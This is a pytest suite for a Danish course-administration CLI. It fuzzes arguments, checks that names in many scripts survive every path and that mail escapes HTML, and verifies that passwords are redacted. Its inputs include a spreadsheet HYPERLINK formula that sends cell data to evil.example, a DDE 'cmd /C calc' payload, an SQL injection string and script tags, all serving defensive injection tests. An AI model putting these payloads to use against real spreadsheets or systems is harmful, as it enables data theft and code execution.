"""Hostile input: random arguments thrown at the CLI never give a traceback or a partial write;
names in any script survive every path; CSV cells cannot run as formulas; HTML mail escapes
what participants typed; passwords in database and SMTP URLs are never shown."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import signal
import sqlite3
import subprocess
import traceback
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result
from conftest import Cli
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from procs import start_lps, wait_until
from smtp_server import SmtpSink

from cli.main import cli
from states.programme import OBLIGATIONS, STATE_NAMES, TRIGGERS

NOW = "2027-01-04T10:00"
DAYS = "2027-03-01,2027-03-15,2027-03-29,2027-04-12,2027-04-26"
SECRET = "s3cret"

NAMES = (
    "Søren Ærø Åberg",
    "Nguyễn Thị Minh Khai",
    "Łukasz Żółkiewski",
    "Şükrü Öztürk",
    "محمد الأحمد",
    "דוד כהן",
    "Zoë O'Brien-Ødegård",
    "Јован Јовановић",
    "山田 太郎",
    "Ἀριστοτέλης Ὀνάσης",
)

SCRIPT_NAME = '<script>alert("navn")</script> Ærø'
SCRIPT_GOAL = "<script>alert('mål')</script> & <b>fed</b> \"citat\""

# Commands left out of the random runs, and why: they are not about input.
SKIPPED = {
    ("demo",): "walks a whole demo cohort through the programme",
    ("scheduler", "run"): "runs until it is stopped",
}


@dataclass(frozen=True)
class Shape:
    """What a command accepts: its words, positional arguments and options."""

    path: tuple[str, ...]
    arguments: tuple[int, ...]
    """nargs of each positional argument (-1: any number)."""
    options: tuple[click.Option, ...]

    @property
    def option_names(self) -> list[str]:
        return [name for o in self.options for name in (*o.opts, *o.secondary_opts)]


def _shape(path: tuple[str, ...], command: click.Command) -> Shape:
    return Shape(
        path,
        tuple(p.nargs for p in command.params if isinstance(p, click.Argument)),
        tuple(p for p in command.params if isinstance(p, click.Option)),
    )


def command_shapes() -> dict[tuple[str, ...], Shape]:
    """Every command of ``lps``, by the words that name it, read from the CLI itself."""
    ctx = click.Context(cli)
    shapes: dict[tuple[str, ...], Shape] = {(): _shape((), cli)}
    for name in cli.list_commands(ctx):
        command = cli.get_command(ctx, name)
        assert command is not None
        if isinstance(command, click.Group):
            sub_ctx = click.Context(command, parent=ctx)
            for sub in command.list_commands(sub_ctx):
                subcommand = command.get_command(sub_ctx, sub)
                assert subcommand is not None
                shapes[(name, sub)] = _shape((name, sub), subcommand)
        else:
            shapes[(name,)] = _shape((name,), command)
    return {path: shape for path, shape in shapes.items() if path not in SKIPPED}


SHAPES = command_shapes()
WORDS = (
    *TRIGGERS,
    *STATE_NAMES,
    *OBLIGATIONS,
    *(trigger.replace("_", "-") for trigger in TRIGGERS),
    "1", "2", "3", "0", "-1", "007", "99999999999999999999", "1.5", "1e3",
    "H1", "H2", "h1", "soren@odense.dk", "aase@odense.dk", "ikke-en-adresse", "@", "a@b",
    "2027-03-01", "2027-02-30", "2027-13-01", "01-03-2027", "2027-03-01T25:00", "i morgen",
    DAYS, "2027-03-01,2027-03-01,2027-03-01,2027-03-01,2027-03-01", "2027-03-01,2027-03-15",
    "Odense", "Svendborg", "leader", "hr", "da", "en", "de", "csv", "json", "table", "dot",
    "mermaid", "pending", "sent", "failed", "dropped", "Titel|https://x.dk", "|", "https://",
    "--", "-", "", " ", "=1+2", "+1", "@SUM(A1)", "-2-3", "Robert'); DROP TABLE participants;--",
    "%s", "{name}", "{{ 7*7 }}", "<script>alert(1)</script>", "\\", "'", '"', "..", "/", "~",
    *NAMES,
)  # fmt: skip
TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    max_size=24,
)


WORD = st.sampled_from(WORDS)
VALUE = st.one_of(WORD, WORD, TEXT)


@st.composite
def loose_arguments(draw: st.DrawFn) -> list[str]:
    """A command, then any mix of its own options, words the programme knows and garbage."""
    shape = draw(st.sampled_from([SHAPES[path] for path in sorted(SHAPES)]))
    token = st.one_of(
        st.sampled_from(shape.option_names or ["--help"]),
        st.sampled_from(SHAPES[()].option_names),
        VALUE,
    )
    return [*shape.path, *draw(st.lists(token, max_size=8))]


def _value(draw: st.DrawFn, option: click.Option) -> str:
    if isinstance(option.type, click.Choice) and draw(st.integers(0, 4)):
        return str(draw(st.sampled_from(list(option.type.choices))))
    return draw(VALUE)


@st.composite
def formed_arguments(draw: st.DrawFn) -> list[str]:
    """A command with the right number of arguments and well-formed options, whose values
    are words the programme knows or garbage: these get past click to the engine."""
    shape = draw(st.sampled_from([SHAPES[path] for path in sorted(SHAPES) if path]))
    args = list(shape.path)
    for nargs in shape.arguments:
        count = draw(st.integers(0, 3)) if nargs == -1 else nargs
        args += [draw(VALUE) for _ in range(count)]
    for option in shape.options:
        if option.hidden or "--help" in option.opts:
            continue
        if not (option.required and draw(st.integers(0, 9))) and draw(st.booleans()):
            continue
        name = draw(st.sampled_from([*option.opts, *option.secondary_opts]))
        if option.is_flag:
            args.append(name)
            continue
        for _ in range(draw(st.integers(1, 3)) if option.multiple else 1):
            args += [name, _value(draw, option)]
    if draw(st.booleans()):
        args = ["--actor", draw(VALUE), *args]
    return args


def argument_lists() -> st.SearchStrategy[list[str]]:
    return st.one_of(formed_arguments(), formed_arguments(), loose_arguments())


def blocked(args: list[str]) -> bool:
    words = set(args)
    # These run until stopped.
    return (
        "demo" in words
        or {"scheduler", "run"} <= words
        or ("serve" in words and "--help" not in words and "-h" not in words)
    )


@dataclass
class Hostile:
    """A SQLite database made by ``lps init``, with a cohort and two participants."""

    path: Path
    mail: Path

    @property
    def url(self) -> str:
        return f"sqlite:///{self.path}"

    def env(self) -> Mapping[str, str | None]:
        return {
            "LPS_DATABASE_URL": self.url,
            "LPS_NOW": NOW,
            "LPS_MAIL_DIR": str(self.mail),
            "LPS_SMTP_URL": None,
            "LPS_MAIL_FROM": None,
        }

    def run(self, args: list[str]) -> Result:
        return CliRunner().invoke(cli, args, env=self.env())


def digest(path: Path) -> str:
    """A fingerprint of every row of every table."""
    fingerprint = hashlib.sha256()
    with closing(sqlite3.connect(path)) as conn:
        tables = [
            name
            for (name,) in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
            )
        ]
        for table in tables:
            fingerprint.update(table.encode())
            for row in conn.execute(f'SELECT * FROM "{table}" ORDER BY rowid'):
                fingerprint.update(repr(row).encode())
    return fingerprint.hexdigest()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    home = tmp_path_factory.mktemp("hostile")
    box = Hostile(home / "lps.db", home / "mail")
    setup = [
        ["init"],
        ["cohort", "create", "H1", "--name", "Hold 1", "--days", DAYS, "--admin-email",
         "kursus@odense.dk", "--venue", "Odense Rådhus"],
        ["participant", "add", "H1", "--name", "Søren Ærø", "--email", "soren@odense.dk",
         "--municipality", "Odense", "--manager-name", "Mette Kjær", "--manager-email",
         "mette@odense.dk"],
        ["participant", "add", "H1", "--name", "Åse Øster", "--email", "aase@odense.dk",
         "--municipality", "Odense", "--manager-name", "Mette Kjær", "--manager-email",
         "mette@odense.dk"],
        ["advance", "1", "hold_manager_conversation", "--goal", "Tydelighed"],
    ]  # fmt: skip
    # Commands that write files (.eml, exports) write them here, not in the working tree.
    previous = Path.cwd()
    os.chdir(home)
    try:
        for args in setup:
            result = box.run(args)
            assert result.exit_code == 0, (args, result.output)
        yield box
    finally:
        os.chdir(previous)


def explain(result: Result) -> str:
    if result.exc_info is None:
        return result.output
    return result.output + "".join(traceback.format_exception(*result.exc_info))


def bulk_advanced_some(args: list[str], result: Result) -> bool:
    """``advance --cohort`` reports the participants it advanced before the refused ones:
    a documented partial success, not a partial write."""
    return (
        "--cohort" in args
        and result.stdout.startswith("Advanced ")
        and not (result.stdout.startswith("Advanced 0 "))
    )


@settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(args=argument_lists())
def test_random_arguments_never_crash_and_a_refusal_writes_nothing(
    hostile: Hostile, args: list[str]
) -> None:
    assume(not blocked(args))
    before = digest(hostile.path)

    result = hostile.run(args)

    event(f"exit code {result.exit_code}")
    assert result.exception is None or isinstance(result.exception, SystemExit), explain(result)
    assert result.exit_code in (0, 1, 2), explain(result)
    assert "Traceback" not in result.output
    if result.exit_code != 0:
        assert result.stderr.strip(), "a refusal without a word"
        if not bulk_advanced_some(args, result):
            assert digest(hostile.path) == before, f"{args} was refused but wrote: {result.output}"


# -- names in any script -------------------------------------------------------------------------


def enrol_args(name: str, number: int) -> list[str]:
    return [
        "participant", "add", "H1", "--name", name, "--email", f"p{number}@odense.dk",
        "--municipality", "Odense", "--workplace", name, "--manager-name", name,
        "--manager-email", f"leder{number}@odense.dk", "--json",
    ]  # fmt: skip


def created(lps: Cli) -> Cli:
    result = lps(
        "cohort", "create", "H1", "--name", "Leder på spring – Ærø", "--days", DAYS,
        "--venue", "Odense Rådhus", "--admin-email", "kursus@odense.dk",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return lps


def emails(directory: Path) -> list[EmailMessage]:
    parser = BytesParser(policy=policy.default)
    found = []
    for path in sorted(directory.glob("*.eml")):
        message = parser.parsebytes(path.read_bytes())
        assert isinstance(message, EmailMessage)
        found.append(message)
    return found


def body(message: EmailMessage, subtype: str) -> str:
    part = message.get_body(preferencelist=(subtype,))
    assert part is not None and isinstance(part, EmailMessage)
    content: str = part.get_content()
    return content


@pytest.mark.parametrize("name", NAMES)
def test_a_name_in_any_script_survives_every_path(lps: Cli, name: str, tmp_path: Path) -> None:
    created(lps)
    added = lps(*enrol_args(name, 1))
    assert added.exit_code == 0, added.output
    enrolled = _json(added)
    assert (enrolled["name"], enrolled["workplace"], enrolled["manager"]["name"]) == (name,) * 3

    goal = f"Tydelighed for {name}"
    assert lps("advance", "1", "hold_manager_conversation", "--goal", goal).exit_code == 0
    shown = _json(lps("participant", "show", "p1@odense.dk", "--json"))
    assert shown["name"] == name
    assert shown["learning_goals"] == [goal]
    listed = _json(lps("participant", "list", "--json"))
    assert [p["name"] for p in listed] == [name]

    reason = f"{name} har fået nyt job"
    withdrawn = lps("advance", "1", "withdraw", "--reason", reason)
    assert withdrawn.exit_code == 0, withdrawn.output
    assert name in withdrawn.stdout
    assert _json(lps("history", "1", "--format", "json"))[-1]["note"] == reason
    rows = list(csv.reader(io.StringIO(lps("history", "1", "--format", "csv").stdout)))
    assert rows[-1][-1] == reason
    assert reason in lps("history", "1").stdout

    assert lps("remind").exit_code == 0
    mail = emails(tmp_path / "mail")
    notices = [m for m in mail if m["X-LPS-Rule"] == "withdrawal_notice"]
    to_participant = [m for m in notices if m["To"].addresses[0].username == "p1"]
    assert len(to_participant) == 1
    assert to_participant[0]["To"].addresses[0].display_name == name
    assert name in body(to_participant[0], "plain")


@pytest.mark.parametrize("name", NAMES[:5])
def test_a_name_in_any_script_survives_the_outbox_listing(lps: Cli, name: str) -> None:
    created(lps)
    assert lps(*enrol_args(name, 1)).exit_code == 0
    outbox = _json(lps("outbox", "list", "--json"))
    assert sorted(m["recipient"] for m in outbox) == sorted(
        [f"{name} <p1@odense.dk>", f"{name} <leder1@odense.dk>"]
    )
    assert f"{name} <p1@odense.dk>" in lps("outbox", "list").stdout


@pytest.mark.parametrize(
    "name",
    ["Søren Ærø", "Hansen, Jens Ærø", SCRIPT_NAME, 'Zoë "Zo" Ødegård', "Nguyễn <Minh> Khai"],
)
def test_a_name_survives_the_mail_headers(lps: Cli, name: str, tmp_path: Path) -> None:
    created(lps)
    assert lps(*enrol_args(name, 1)).exit_code == 0
    assert lps("remind").exit_code == 0
    welcome = next(
        m for m in emails(tmp_path / "mail") if m["X-LPS-Key"] == "1:welcome:participant:0"
    )
    to = welcome["To"].addresses
    assert [(a.display_name, a.addr_spec) for a in to] == [(name, "p1@odense.dk")], str(
        welcome["To"]
    )


@pytest.mark.parametrize("name", ["Hansen, Jens Ærø", "Nguyễn <Minh> Khai", SCRIPT_NAME])
def test_a_name_with_specials_does_not_change_where_mail_goes(lps: Cli, name: str) -> None:
    created(lps)
    assert lps(*enrol_args(name, 1)).exit_code == 0
    with SmtpSink() as sink:
        lps.env["LPS_SMTP_URL"] = sink.url
        reminded = lps("remind")
    envelopes = sorted(r.rcpt_tos for r in sink.received)
    assert envelopes == [("leder1@odense.dk",), ("p1@odense.dk",)], reminded.output


def test_the_sender_header_is_one_address(lps: Cli, tmp_path: Path) -> None:
    created(lps)
    assert lps(*enrol_args("Søren Ærø", 1)).exit_code == 0
    assert lps("remind").exit_code == 0
    for message in emails(tmp_path / "mail"):
        senders = message["From"].addresses
        assert [a.addr_spec for a in senders] == ["kursus@odense.dk"], str(message["From"])
        assert senders[0].display_name == "Kursussekretariatet, Leder på spring"


LETTERS = st.text(
    alphabet=st.characters(categories=["Lu", "Ll", "Lo", "Lt", "Mn", "Nd", "Zs"]),
    min_size=1,
    max_size=40,
).map(str.strip)


@settings(max_examples=60, deadline=None, database=None)
@given(name=LETTERS)
def test_any_name_round_trips_through_enrol_and_show(hostile: Hostile, name: str) -> None:
    assume(name and name[0].isalnum() and not name.isdigit())
    number = int(hashlib.sha256(name.encode()).hexdigest()[:12], 16)
    added = hostile.run(enrol_args(name, number))
    if added.exit_code != 0:
        # Only a second enrolment of the same email may be refused.
        assert "already enrolled" in added.stderr, added.output
        return
    participant = _json(added)["id"]
    shown = _json(hostile.run(["participant", "show", str(participant), "--json"]))
    assert (shown["name"], shown["workplace"], shown["manager"]["name"]) == (name,) * 3


@pytest.mark.parametrize("field", ["--name", "--workplace", "--manager-name"])
def test_an_over_long_value_is_refused_in_one_line_or_kept_whole(lps: Cli, field: str) -> None:
    created(lps)
    args = enrol_args("Søren Ærø", 1)
    value = "Ø" * 300
    args[args.index(field) + 1] = value

    result = lps(*args)

    assert result.exception is None or isinstance(result.exception, SystemExit), explain(result)
    assert result.exit_code in (0, 1), result.output
    if result.exit_code == 1:
        assert result.stderr.startswith("Error: ") and len(result.stderr.splitlines()) == 1
        assert _json(lps("participant", "list", "--json")) == []
    else:
        shown = _json(lps("participant", "show", "1", "--json"))
        kept = {"--name": shown["name"], "--workplace": shown["workplace"]}
        assert kept.get(field, shown["manager"]["name"]) == value


def _json(result: Result) -> Any:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


# -- spreadsheets ------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_history_csv_cells_cannot_run_as_formulas(lps: Cli, start: str) -> None:
    created(lps)
    assert lps(*enrol_args("Søren Ærø", 1)).exit_code == 0
    note = f'{start}HYPERLINK("https://evil.example/?x="&A1;"Klik")'
    actor = f"{start}cmd|' /C calc'!A0"
    withdrawn = lps("--actor", actor, "advance", "1", "withdraw", "--reason", note)
    assert withdrawn.exit_code == 0, withdrawn.output

    exported = lps("history", "1", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
    assert rows[0] == ["seq", "at", "actor", "channel", "event", "from_state", "to_state", "note"]
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert last["event"] == "withdraw"
    # Shown as text, and still exactly what was typed after the quote.
    assert last["note"] == "'" + note
    # An actor is one line, kept without the white space around it.
    actor = actor.strip()
    assert last["actor"] == ("'" + actor if actor.startswith(("=", "+", "-", "@")) else actor)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # The JSON export keeps the words as typed.
    entry = _json(lps("history", "1", "--format", "json"))[-1]
    assert (entry["note"], entry["actor"]) == (note, actor)


# -- HTML mail ---------------------------------------------------------------------------------


# From enrolment to the certificate, as the README walks it.
WALK: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("2027-01-04T10:05", ("advance", "1", "hold_manager_conversation", "--goal", SCRIPT_GOAL)),
    ("2027-01-04T10:10", ("advance", "1", "invite_jti", "--early")),
    ("2027-01-20T10:00", ("advance", "1", "complete_jti")),
    ("2027-03-01T10:00", ("advance", "1", "register_day")),
    ("2027-03-05T10:00", ("host", "set", "1", "--name", SCRIPT_NAME, "--email",
                          "hanne@odense.dk", "--role", "leader", "--municipality", "Odense")),
    ("2027-03-05T10:05", ("remind",)),
    ("2027-03-10T10:00", ("advance", "1", "hold_career_visit")),
    ("2027-03-15T10:00", ("advance", "1", "register_day")),
    ("2027-03-29T10:00", ("advance", "1", "register_day")),
    ("2027-04-12T10:00", ("advance", "1", "register_day")),
    ("2027-04-26T10:00", ("advance", "1", "register_day")),
    ("2027-04-26T15:00", ("advance", "1", "deliver_speech")),
)  # fmt: skip


def test_html_mail_escapes_what_participants_typed(lps: Cli, tmp_path: Path) -> None:
    created(lps)
    assert lps(*enrol_args(SCRIPT_NAME, 1)).exit_code == 0
    assert lps("remind").exit_code == 0
    for now, args in WALK:
        lps.now = now
        result = lps(*args)
        assert result.exit_code == 0, (args, result.output)
    assert _json(lps("participant", "show", "1", "--json"))["state"] == "certified"
    assert lps("remind").exit_code == 0

    mail = emails(tmp_path / "mail")
    by_rule = {str(m["X-LPS-Rule"]) for m in mail}
    assert {"welcome", "certificate", "host_letter"} <= by_rule, by_rule
    for message in mail:
        html = body(message, "html")
        assert "<script" not in html.lower(), (message["X-LPS-Rule"], html)
        assert "<b>fed</b>" not in html
    welcome = next(m for m in mail if m["X-LPS-Rule"] == "welcome")
    assert "&lt;script&gt;alert(" in body(welcome, "html")
    certificate = next(m for m in mail if m["X-LPS-Key"] == "1:certificate:participant:0")
    html = body(certificate, "html")
    assert "&lt;script&gt;alert(" in html
    assert "&lt;b&gt;fed&lt;/b&gt;" in html and "&amp;" in html
    # The plain text quotes the goal exactly as written.
    assert SCRIPT_GOAL in body(certificate, "plain")


# -- passwords ---------------------------------------------------------------------------------

UNREACHABLE_DB = f"postgresql://lps:{SECRET}@127.0.0.1:1/lps"


@pytest.mark.parametrize(
    "args",
    [
        ["cohort", "list"],
        ["init"],
        ["audit", "verify"],
        ["participant", "show", "1"],
        ["remind"],
        ["outbox", "list", "--json"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize(
    "url",
    [
        UNREACHABLE_DB,
        f"postgresql://lps:{SECRET}@127.0.0.1:notaport/lps",
        f"postgresql://lps:{SECRET}/x@127.0.0.1:1/lps",
        f"mysql://lps:{SECRET}@127.0.0.1:1/lps",
        f"postgresql://lps@127.0.0.1:1/lps?password={SECRET}",
    ],
    ids=["unreachable", "bad-port", "slash-in-password", "unknown-driver", "password-param"],
)
def test_a_database_password_is_never_shown(args: list[str], url: str, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["--db", url, *args], env={"LPS_NOW": NOW, "LPS_MAIL_DIR": str(tmp_path)}
    )
    assert SECRET not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), explain(result)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: "), result.stderr


@pytest.mark.parametrize(
    "smtp_url",
    [
        f"smtp://lps:{SECRET}@127.0.0.1:1",
        f"smtps://lps:{SECRET}@127.0.0.1:1",
        f"smtp://lps:{SECRET}@127.0.0.1:99999",
        f"smtp://lps:{SECRET}/x@127.0.0.1:1",
        f"smtp://løs:{SECRET}@127.0.0.1:1",
        f"smtp://lps:{SECRET}@127.0.0.1:1?timeout=never",
    ],
    ids=["refused", "smtps-refused", "bad-port", "slash", "non-ascii-user", "bad-timeout"],
)
def test_an_smtp_password_is_never_shown(lps: Cli, smtp_url: str) -> None:
    created(lps)
    assert lps(*enrol_args("Søren Ærø", 1)).exit_code == 0
    lps.env["LPS_SMTP_URL"] = smtp_url

    reminded = lps("remind")
    listed = lps("outbox", "list")
    listed_json = lps("outbox", "list", "--json")

    for result in (reminded, listed, listed_json):
        assert "Traceback" not in result.output
        assert SECRET not in result.output
    assert reminded.exit_code in (0, 1), reminded.output
    if reminded.exit_code == 1:
        assert reminded.stderr.startswith("Error: LPS_SMTP_URL"), reminded.stderr


def test_the_scheduler_log_never_shows_a_password(postgres_url: str, tmp_path: Path) -> None:
    # PostgreSQL here trusts local connections, so the password is carried but not needed.
    url = postgres_url.replace("postgresql://postgres@", f"postgresql://postgres:{SECRET}@", 1)
    assert SECRET in url
    lps = Cli(url, now=NOW)
    assert lps("init").exit_code == 0
    created(lps)
    assert lps(*enrol_args("Søren Ærø", 1)).exit_code == 0
    out, err = tmp_path / "scheduler.out", tmp_path / "scheduler.err"
    with out.open("wb") as stdout, err.open("wb") as stderr:
        proc = start_lps(
            "scheduler", "run", "--every", "1", url=url, now=NOW, cwd=tmp_path,
            stdout=stdout, stderr=stderr, extra={"LPS_SMTP_URL": f"smtp://lps:{SECRET}@127.0.0.1:1"},
        )  # fmt: skip
    try:
        wait_until(
            lambda: "sweep: " in err.read_text(encoding="utf-8"),
            timeout=120,
            what="the first sweep to be logged",
        )
    finally:
        proc.send_signal(signal.SIGTERM)
        try:
            code = proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            raise
    log = err.read_text(encoding="utf-8") + out.read_text(encoding="utf-8")
    assert code == 0, log
    assert "Traceback" not in log
    assert "failed: cannot reach SMTP server 127.0.0.1:1" in log
    assert "postgresql://postgres:***@" in log
    assert SECRET not in log
